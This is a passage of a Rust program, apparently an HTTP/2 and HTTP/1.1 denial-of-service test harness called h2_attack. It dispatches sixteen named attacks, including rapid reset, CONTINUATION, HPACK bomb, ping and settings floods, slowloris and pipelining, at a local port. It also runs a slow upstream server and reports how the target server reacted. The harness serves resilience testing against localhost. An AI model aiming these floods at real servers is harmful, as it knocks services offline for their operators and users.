        if stopping(deadline) {
            break;
        }
        let one = one.clone();
        tasks.push(tokio::spawn(async move {
            while !stopping(deadline) {
                one(i).await;
            }
        }));
        pause(stagger, deadline).await;
    }
    for task in tasks {
        let _ = task.await;
    }
}

const ATTACKS: [&str; 16] = [
    "batched-rapid-reset",
    "paced-rapid-reset",
    "made-you-reset",
    "continuation",
    "hpack-bomb",
    "stream-cap",
    "settings-flood",
    "ping-flood",
    "zero-window",
    "cancelled-streams",
    "websocket",
    "upstream-multiplication",
    "stalled-bodies",
    "slowloris",
    "slow-body",
    "pipelining",
];

async fn attack(name: &str, port: u16, deadline: Instant) {
    let one = Duration::ZERO;
    match name {
        "batched-rapid-reset" => {
            slots(1, one, deadline, move |_| {
                batched_rapid_reset(port, deadline)
            })
            .await
        }
        "paced-rapid-reset" => {
            slots(1, one, deadline, move |_| paced_rapid_reset(port, deadline)).await
        }
        "made-you-reset" => slots(1, one, deadline, move |_| made_you_reset(port, deadline)).await,
        "continuation" => slots(1, one, deadline, move |_| continuation(port, deadline)).await,
        "hpack-bomb" => slots(1, one, deadline, move |_| hpack_bomb(port, deadline)).await,
        "stream-cap" => {
            slots(20, Duration::from_millis(20), deadline, move |_| {
                hold_streams(port, deadline, &[], 128, "/slow/10000")
            })
            .await
        }
        "settings-flood" => {
            // Each SETTINGS sets INITIAL_WINDOW_SIZE to 65,536.
            let unit = frame(SETTINGS, 0, 0, &[0x00, 0x04, 0x00, 0x01, 0x00, 0x00]);
            slots(10, Duration::from_millis(20), deadline, move |_| {
                flood(port, deadline, unit.clone())
            })
            .await
        }
        "ping-flood" => {
            let unit = frame(PING, 0, 0, b"floodfl!");
            slots(10, Duration::from_millis(20), deadline, move |_| {
                flood(port, deadline, unit.clone())
            })
            .await
        }
        "zero-window" => {
            slots(50, Duration::from_millis(10), deadline, move |_| {
                hold_streams(port, deadline, &[(INITIAL_WINDOW_SIZE, 0)], 100, "/")
            })
            .await
        }
        "cancelled-streams" => {
            slots(200, Duration::from_millis(2), deadline, move |_| {
                cancelled_stream(port, deadline)
            })
            .await
        }
        "websocket" => {
            slots(300, Duration::from_millis(2), deadline, move |i| {
                websocket(port, deadline, i)
            })
            .await
        }
        "upstream-multiplication" => {
            slots(8, Duration::from_millis(20), deadline, move |_| {
                hold_streams(port, deadline, &[], 125, "/slow/3000")
            })
            .await
        }
        "stalled-bodies" => {
            let block = post_block("/", 1000);
            slots(8, Duration::from_millis(20), deadline, move |_| {
                let block = block.clone();
                async move { hold_blocks(port, deadline, &[], 125, &block, END_HEADERS).await }
            })
            .await
        }
        "slowloris" => {
            let first = Arc::new(b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\n".to_vec());
            slots(300, Duration::from_millis(2), deadline, move |_| {
                h1_trickle(
                    port,
                    deadline,
                    Arc::clone(&first),
                    b"x-a: b\r\n",
                    Duration::from_secs(1),
                )
            })
            .await
        }
        "slow-body" => {
            let first = Arc::new(
                b"POST / HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: 1000\r\n\r\n".to_vec(),
            );
            slots(300, Duration::from_millis(2), deadline, move |_| {
                h1_trickle(
                    port,
                    deadline,
                    Arc::clone(&first),
                    b"x",
                    Duration::from_secs(1),
                )
            })
            .await
        }
        "pipelining" => {
            let mut bytes = b"GET /slow/10000 HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n".to_vec();
            let one = b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n";
            while bytes.len() < 1 << 20 {
                bytes.extend_from_slice(one);
            }
            let first = Arc::new(bytes);
            slots(75, Duration::from_millis(10), deadline, move |_| {
                h1_trickle(
                    port,
                    deadline,
                    Arc::clone(&first),
                    b"",
                    Duration::from_secs(1),
                )
            })
            .await
        }
        other => unreachable!("unknown attack {other}"),
    }
}

fn median(v: &[Duration]) -> Duration {
    let mut v = v.to_vec();
    v.sort();
    v.get(v.len() / 2).copied().unwrap_or_default()
}

fn human(d: Duration) -> String {
    if d < Duration::from_millis(1) {
        "<1 ms".to_owned()
    } else if d < Duration::from_secs(1) {
        format!("{} ms", d.as_millis())
    } else {
        format!("{:.1} s", d.as_secs_f64())
    }
}

/// Whether the attack speaks HTTP/1.1 (to the HTTP/1.1 port).
fn http1(name: &str) -> bool {
    matches!(name, "websocket" | "slowloris" | "slow-body" | "pipelining")
}

/// What the server did, in a few words with the counts.
fn outcome(t: &Tally, name: &str) -> String {
    let mut ends = Vec::new();
    for (code, lived) in &t.goaway {
        ends.push(format!(
            "GOAWAY {} ×{} (after {})",
            reason(*code),
            lived.len(),
            human(median(lived))
        ));
    }
    if !t.closed.is_empty() {
        ends.push(format!(
            "closed{} ×{} (after {})",
            if http1(name) { "" } else { " without GOAWAY" },
            t.closed.len(),
            human(median(&t.closed))
        ));
    }
    if t.open > 0 {
        ends.push(format!("still open at the end ×{}", t.open));
    }
    if t.refused > 0 {
        ends.push(format!(
            "closed or unanswered before SETTINGS ×{}",
            t.refused
        ));
    }
    if t.connect_failed > 0 {
        ends.push(format!("connect failed ×{}", t.connect_failed));
    }
    if http1(name) {
        ends.retain(|e| !e.starts_with("closed or unanswered"));
        if t.refused > 0 {
            ends.push(format!(
                "closed or unanswered before a response ×{}",
                t.refused
            ));
        }
    }
    let mut streams = Vec::new();
    for (code, n) in &t.resets {
        streams.push(format!("RST_STREAM {} ×{n}", reason(*code)));
    }
    if !t.statuses.is_empty() {
        let statuses: Vec<String> = t
            .statuses
            .iter()
            .map(|(s, n)| {
                if *s == 0 {
                    format!("no status ×{n}")
                } else {
                    format!("{s} ×{n}")
                }
            })
            .collect();
        streams.push(format!("answered {}", statuses.join(", ")));
    }
    let mut text = format!(
        "{} connections, {} {} written: {}",
        t.connections,
        t.streams,
        match name {
            "websocket" => "upgrades",
            name if http1(name) => "requests",
            _ => "streams",
        },
        if ends.is_empty() {
            "none ended".to_owned()
        } else {
            ends.join("; ")
        }
    );
    if !streams.is_empty() {
        text.push_str("; ");
        text.push_str(&streams.join("; "));
    }
    text
}

/// This process's CPU time (user + system), in clock ticks.
fn cpu_ticks() -> u64 {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    // The fields after the command name, which is in parentheses and may hold spaces.
    let rest = stat.rsplit_once(')').map_or("", |(_, r)| r);
    let fields: Vec<&str> = rest.split_whitespace().collect();
    // utime and stime are fields 14 and 15 of the line, 12 and 13 after the name.
    let field = |i: usize| {
        fields
            .get(i)
            .and_then(|v| v.parse::<u64>().ok())
            .unwrap_or(0)
    };
    field(11) + field(12)
}

async fn run_attack(name: &str, port: u16, seconds: f64) {
    let started = Instant::now();
    let deadline = started + Duration::from_secs_f64(seconds);
    tokio::spawn(async {
        use tokio::signal::unix::{signal, SignalKind};
        let (Ok(mut term), Ok(mut int)) = (
            signal(SignalKind::terminate()),
            signal(SignalKind::interrupt()),
        ) else {
            return;
        };
        tokio::select! {
            _ = term.recv() => {}
            _ = int.recv() => {}
        }
        STOP.store(true, Ordering::Relaxed);
    });
    attack(name, port, deadline).await;
    let t = tally();
    println!(
        "summary attack={name} connections={} refused={} connect_failed={} streams={} bytes={} cpu_ticks={} seconds={:.2}",
        t.connections,
        t.refused,
        t.connect_failed,
        t.streams,
        t.bytes,
        cpu_ticks(),
        started.elapsed().as_secs_f64()
    );
    println!("outcome {}", outcome(&t, name));
}

// === The slow upstream ===

static UPSTREAM_OPEN: AtomicUsize = AtomicUsize::new(0);
static UPSTREAM_PEAK: AtomicUsize = AtomicUsize::new(0);

async fn upstream(port: u16) {
    let listener = TcpListener::bind(("127.0.0.1", port))
        .await
        .expect("the upstream's port is free");
    loop {
        let tcp = match listener.accept().await {
            Ok((tcp, _)) => tcp,
            // Out of descriptors, for one: try again shortly.
            Err(_) => {
                tokio::time::sleep(Duration::from_millis(10)).await;
                continue;
            }
        };
        let open = UPSTREAM_OPEN.fetch_add(1, Ordering::Relaxed) + 1;
        UPSTREAM_PEAK.fetch_max(open, Ordering::Relaxed);
        tokio::spawn(async move {
            let _ = serve_upstream(tcp).await;
            UPSTREAM_OPEN.fetch_sub(1, Ordering::Relaxed);
        });
    }
}

/// Answers the requests of one connection in turn (no bodies, no pipelining).
async fn serve_upstream(tcp: TcpStream) -> std::io::Result<()> {
    let _ = tcp.set_nodelay(true);
    let (read, mut write) = tcp.into_split();
    let mut read = BufReader::new(read);
    let mut line = String::new();
    loop {
        line.clear();
        if read.read_line(&mut line).await? == 0 {
            return Ok(());
        }
        let path = line.split_whitespace().nth(1).unwrap_or("/").to_owned();
        loop {
            line.clear();
            if read.read_line(&mut line).await? == 0 {
                return Ok(());
            }
            if line == "\r\n" || line == "\n" {
                break;
            }
        }
        let body = if path == "/__peak" {
            let open = UPSTREAM_OPEN.load(Ordering::Relaxed);
            let peak = UPSTREAM_PEAK.swap(open, Ordering::Relaxed);
            format!("{open} {peak}\n")
        } else {
            "ok\n".to_owned()
        };
        let delay = path
            .strip_prefix("/slow/")
            .and_then(|rest| rest.split(|c: char| !c.is_ascii_digit()).next())
            .and_then(|ms| ms.parse::<u64>().ok());
        if let Some(ms) = delay {
            let mut probe = [0u8; 1];
            tokio::select! {
                _ = tokio::time::sleep(Duration::from_millis(ms)) => {}
                // The client went away (a gateway that gave up on the request).
                r = read.read(&mut probe) => if matches!(r, Ok(0) | Err(_)) { return Ok(()) },
            }
        }
        let answer = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: {}\r\n\r\n{body}",
            body.len()
        );
        write.write_all(answer.as_bytes()).await?;
    }
}

fn usage() -> ! {
    eprintln!(
        "usage: h2_attack ATTACK PORT SECONDS | h2_attack upstream PORT\nattacks: {}",
        ATTACKS.join(", ")
    );
    std::process::exit(2)
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("a tokio runtime");
    match args.as_slice() {
        [command, port] if command == "upstream" => {
            let port = port.parse().unwrap_or_else(|_| usage());
            runtime.block_on(upstream(port));
        }
        [name, port, seconds] if ATTACKS.contains(&name.as_str()) => {
            let port = port.parse().unwrap_or_else(|_| usage());
            let seconds: f64 = seconds.parse().unwrap_or_else(|_| usage());
            runtime.block_on(run_attack(name, port, seconds));
        }
        _ => usage(),
    }
}
